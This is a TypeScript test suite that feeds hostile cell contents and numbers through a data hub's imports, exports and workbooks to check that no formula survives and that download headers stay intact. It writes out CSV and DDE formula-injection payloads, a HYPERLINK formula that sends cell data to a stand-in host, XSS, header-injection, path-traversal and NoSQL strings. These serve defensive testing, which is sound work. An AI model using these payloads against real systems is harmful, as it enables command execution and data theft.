/**
 * Cells with hostile contents, through every way in and out: what is kept is exactly what was typed, no file the hub
 * makes starts a formula, and a number that is none is refused by name.
 */
import { randomUUID } from "node:crypto";
import { afterAll, beforeAll, describe, expect, test } from "@jest/globals";
import ExcelJS from "exceljs";
import { startHub, type TestHub } from "../support/hub.js";
import { save, shown, told } from "./rows-fixture.js";

let hub: TestHub;
beforeAll(async () => {
  hub = await startHub({ contents: "city" });
});
afterAll(() => hub.stop());

const COLLEGE = "YL-S1-01";

/** What somebody types, and what is kept: the same, but for blanks around it and characters that no sheet can show. */
const TEXTS: readonly (readonly [why: string, typed: string, kept: string])[] = [
  ["a formula", "=1+1", "=1+1"],
  ["a formula by plus", "+SUM(A1:A9)", "+SUM(A1:A9)"],
  ["a formula by minus", "-1+cmd", "-1+cmd"],
  ["a formula by at", "@SUM(A1)", "@SUM(A1)"],
  ["a formula of full width", "＝1+1", "＝1+1"],
  ["a program", "=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"],
  [
    "a link that carries a cell away",
    '=HYPERLINK("https://elsewhere.example/?"&A1,"点我")',
    '=HYPERLINK("https://elsewhere.example/?"&A1,"点我")',
  ],
  ["a formula behind a tab", "\t=1+1", "=1+1"],
  ["a formula behind a line end", "\r\n=1+1", "=1+1"],
  ["a formula behind a blank of no width", "\u200b=1+1", "\u200b=1+1"],
  ["a formula behind a mark of direction", "\u202e=1+1", "\u202e=1+1"],
  ["a formula in the middle of a line", "甲\n=1+1", "甲 =1+1"],
  ["a formula behind an apostrophe", "'=1+1", "'=1+1"],
  ["a formula in quotes", '"=1+1"', '"=1+1"'],
  ["an end of the cell and a formula", '甲","=1+1', '甲","=1+1'],
  ["a pipe", "|calc", "|calc"],
  ["a coded line end", "%0A=1+1", "%0A=1+1"],
  ["a script", "<script>alert(1)</script>", "<script>alert(1)</script>"],
  ["a template", "{{7*7}}${7*7}", "{{7*7}}${7*7}"],
  ["a name all objects have", "__proto__", "__proto__"],
  ["another such name", "constructor", "constructor"],
  ["a zero character", "甲\u0000乙", "甲 乙"],
  ["half a character", "甲\ud800乙", "甲 乙"],
];
const TITLES = TEXTS.map(([, , kept]) => kept);

/** As a spreadsheet reads the file: rows of cells. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, bare, end] of text
    .replace(/^\ufeff/u, "")
    .matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/gu)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? bare ?? "");
    if (end === "\r\n") rows.push([]);
    if (end === "") break;
  }
  return rows;
}

/** What Excel, WPS or LibreOffice would take for a formula when they open such a file. */
const RUNS = /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠|%]/u;
const runsIn = (rows: readonly (readonly string[])[]): string[] =>
  rows.flat().filter((cell) => RUNS.test(cell) && !/^-?\d+(\.\d+)?$/u.test(cell));

const csvAt = async (path: string): Promise<string[][]> => {
  const response = await fetch(`${hub.url}${path}`);
  expect(response.status).toBe(200);
  expect(response.headers.get("content-disposition")).toMatch(/^attachment; /u);
  expect(response.headers.get("x-content-type-options")).toBe("nosniff");
  return readCsv(await response.text());
};

describe("Texts", () => {
  test("saved as rows are kept to the letter, and shown so", async () => {
    const receipt = await save(
      hub,
      "Activity",
      TEXTS.map(([, typed]) => ({ organization: COLLEGE, kind: "class", title: typed })),
    );
    expect(told(receipt)).toEqual(TEXTS.map(() => "WRITTEN"));
    const titles = await Promise.all(receipt.rows.map(({ id }) => shown(hub, "Activity", id ?? "", "title")));
    expect(titles).toEqual(TITLES.map((title) => ({ title })));
  });

  test("of more characters than a cell should hold are refused by the cell's name", async () => {
    const receipt = await save(hub, "Activity", [{ organization: COLLEGE, kind: "class", title: "长".repeat(5_000) }]);
    expect(receipt.rows[0]).toMatchObject({
      outcome: "REFUSED",
      findings: [{ code: "TEXT_TOO_LONG", field: "title" }],
    });
  });

  test("start no formula in the report of refused rows, and are there to the letter behind an apostrophe", async () => {
    const typed = TEXTS.map(([, text]) => text.replaceAll(/[\u0000\ud800]/gu, " "));
    const lines = typed.map((text) => `"${text.replaceAll('"', '""')}",不是日期`);
    const form = new FormData();
    form.set("organization", COLLEGE);
    form.set("target", "Activity");
    form.set("file", new Blob([`班级名称,开始日期\r\n${lines.join("\r\n")}\r\n`]), "=1+1.csv");
    const { id } = (await (await fetch(`${hub.url}/imports`, { method: "POST", body: form })).json()) as { id: string };
    let status = "STAGING";
    while (status === "STAGING") {
      const { data } = await hub.graphql<{ import: { status: string } }>(
        "query ($id: ID!) { import(id: $id) { status } }",
        { id },
      );
      ({ status } = data.import);
    }
    const rows = await csvAt(`/imports/${id}/refused.csv`);
    expect(rows.length).toBeGreaterThan(TEXTS.length);
    expect(runsIn(rows)).toEqual([]);
    // A name is shown without what has no width; the apostrophe is the report's own.
    const plain = (text = ""): string =>
      text
        .replaceAll(/['\p{Cf}]/gu, "")
        .replaceAll(/\s+/gu, " ")
        .trim();
    const names = new Set(rows.map((row) => plain(row[3])));
    const lost = typed.filter((text) => !names.has(plain(text)));
    expect(lost).toEqual([]);
  }, 60_000);

  test("start no formula in the exported log", async () => {
    await save(hub, "Activity", [{ organization: COLLEGE, kind: "class", title: "=审计" }], { origin: "=1+1.xlsx" });
    const rows = await csvAt("/audit/export.csv");
    expect(rows.flat()).toContain("'=1+1.xlsx");
    expect(runsIn(rows)).toEqual([]);
  });
});

describe("The report workbook", () => {
  const bookOf = async (title: string): Promise<{ book: ExcelJS.Workbook; disposition: string }> => {
    const query = new URLSearchParams({ columns: "QU01@2026", organizations: COLLEGE, title });
    const response = await fetch(`${hub.url}/workbooks/report.xlsx?${query.toString()}`);
    expect(response.status).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(await response.arrayBuffer());
    return { book, disposition: response.headers.get("content-disposition") ?? "" };
  };

  test("holds hostile names as texts, and no formula at all", async () => {
    const [before] = await hub.sql<{ name: string }>("select name from organization where code = $1", [COLLEGE]);
    for (const [, , name] of TEXTS.filter(([, , kept]) => RUNS.test(kept))) {
      await hub.sql("update organization set name = $1 where code = $2", [name, COLLEGE]);
      const { book } = await bookOf(name);
      const cells: ExcelJS.Cell[] = [];
      book.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => void cells.push(cell))));
      expect(cells.filter(({ type }) => type === ExcelJS.ValueType.Formula).map(({ address }) => address)).toEqual([]);
      expect(cells.filter(({ value }) => value === name).length).toBeGreaterThanOrEqual(2);
      expect(cells.filter(({ type }) => type === ExcelJS.ValueType.Hyperlink)).toEqual([]);
    }
    await hub.sql("update organization set name = $1 where code = $2", [before?.name, COLLEGE]);
  });

  test.each([
    ["a header of its own", "甲\r\nSet-Cookie: xunshu=a"],
    ["another name for the file", '甲"; filename="b.exe'],
    ["a way out of the folder", "../../甲"],
    ["half a character", `${"长".repeat(59)}😀😀`],
  ])("puts no %s into the answer", async (_what, title) => {
    const { disposition } = await bookOf(title);
    expect(disposition).toMatch(
      /^attachment; filename="(?:[^"\\/\r\n]|\\")*\.xlsx"(; filename\*=UTF-8''[\w%.!~*'()-]+)?$/u,
    );
  });

  test("filled in with hostile reasons comes back to the letter", async () => {
    const { book } = await bookOf("往返");
    const sheet = book.getWorksheet("填报");
    const reasonAt = sheet?.getRow(4).values as ExcelJS.CellValue[];
    const column = reasonAt.indexOf("改动原因");
    for (const [n, [, typed, kept]] of TEXTS.filter(([, typed]) => !/[\u0000\ud800]/u.test(typed)).entries()) {
      const { book: fresh } = await bookOf("往返");
      const at = fresh.getWorksheet("填报")?.getRow(5);
      if (!at) throw new Error("no row to fill in");
      at.getCell(3).value = (101 + n) / 1000;
      at.getCell(column).value = typed;
      const form = new FormData();
      form.set("file", new Blob([await fresh.xlsx.writeBuffer()]), "往返.xlsx");
      const taken = (await (await fetch(`${hub.url}/workbooks`, { method: "POST", body: form })).json()) as {
        receipt: { written: number };
      };
      expect(taken.receipt.written).toBe(1);
      const { data } = await hub.graphql<{ figures: { reason: string }[] }>(
        "query ($keys: [FigureKeyInput!]!) { figures(keys: $keys) { reason } }",
        { keys: [{ indicator: "QU01", organization: COLLEGE, period: "2026" }] },
      );
      expect(data.figures[0]?.reason).toBe(kept);
    }
  }, 120_000);
});

describe("Numbers", () => {
  const write = async (value: unknown) => {
    const cell = { indicator: "FN01", organization: COLLEGE, period: "2026M10", baseVersion: 0, place: "B2", value };
    const { data, errors, status } = await hub.graphql<{
      writeFigures: { cells: { outcome: string; findings: { code: string; message: string }[] }[] };
    }>(
      "mutation ($input: WriteFiguresInput!) { writeFigures(input: $input) { cells { outcome findings { code message } } } }",
      { input: { batchId: randomUUID(), dryRun: true, atomic: false, origin: "数.xlsx", cells: [cell] } },
    );
    return {
      status,
      code: errors?.[0]?.extensions["code"] ?? data.writeFigures.cells[0]?.findings[0]?.code,
      text: JSON.stringify(data ?? errors),
    };
  };

  test.each([
    ["more digits than there is room for", "9".repeat(400)],
    ["a power that fills the memory", "1e999999999"],
    ["a power that is nothing", "1e-999999999"],
    ["no number", "NaN"],
    ["without an end", "Infinity"],
    ["in another base", "0x10"],
    ["with underscores", "1_000"],
    ["with two signs", "--1"],
    ["a formula", "=1+1"],
    ["a part", "½"],
    ["of another script", "٣"],
    ["more decimals than anybody counts", `1.${"1".repeat(400)}`],
  ])("%s is refused with its cell", async (_why, value) => {
    const { status, code, text } = await write(value);
    expect({ status, code }).toEqual({
      status: 200,
      code: expect.stringMatching(/^(?:NOT_A_NUMBER|NUMBER_TOO_LARGE|TOO_MANY_DECIMALS|BAD_NUMBER)$/u),
    });
    expect(text).toContain("B2");
    expect(text.length).toBeLessThan(2_000);
  });

  test.each([
    ["a float, which has lost digits already", 0.1],
    ["an object", { $gt: "" }],
    ["a list", ["1"]],
    ["true", true],
  ])("%s is no exact text and refused as such", async (_why, value) => {
    expect(await write(value)).toMatchObject({ status: 400, code: "BAD_USER_INPUT" });
  });
});
